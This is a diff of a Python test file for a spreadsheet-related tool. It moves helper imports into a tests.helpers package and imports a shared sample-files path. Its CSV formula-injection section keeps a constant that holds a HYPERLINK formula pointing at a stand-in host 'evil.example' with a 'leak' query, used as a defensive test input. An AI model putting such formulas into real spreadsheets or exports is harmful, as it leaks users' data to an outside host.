@@ -20,8 +20,9 @@ from hypothesis import strategies as st
 import slamodeler.cli.main as cli
 from slamodeler.io.formula_text import FORMULA_START, csv_text, from_csv_text
 from slamodeler.services import error_log
-from tests.hostile_inputs import hostile
-from tests.office import convert, needs_office, office_profile
+from tests.helpers.hostile_inputs import hostile
+from tests.helpers.office import convert, needs_office, office_profile
+from tests.helpers.paths import SAMPLES
 
 FROZEN = "20240102-030405"
 
@@ -131,8 +132,7 @@ def test_the_gui_log_does_not_follow_a_symlink(tmp_path):
 # CSV text that a spreadsheet would run as a formula
 # ---------------------------------------------------------------------------------------------
 
-REPO = Path(__file__).resolve().parents[1]
-SAMPLES = REPO / "sample_contracts"
+SAMPLES = SAMPLES
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click")'
 
 
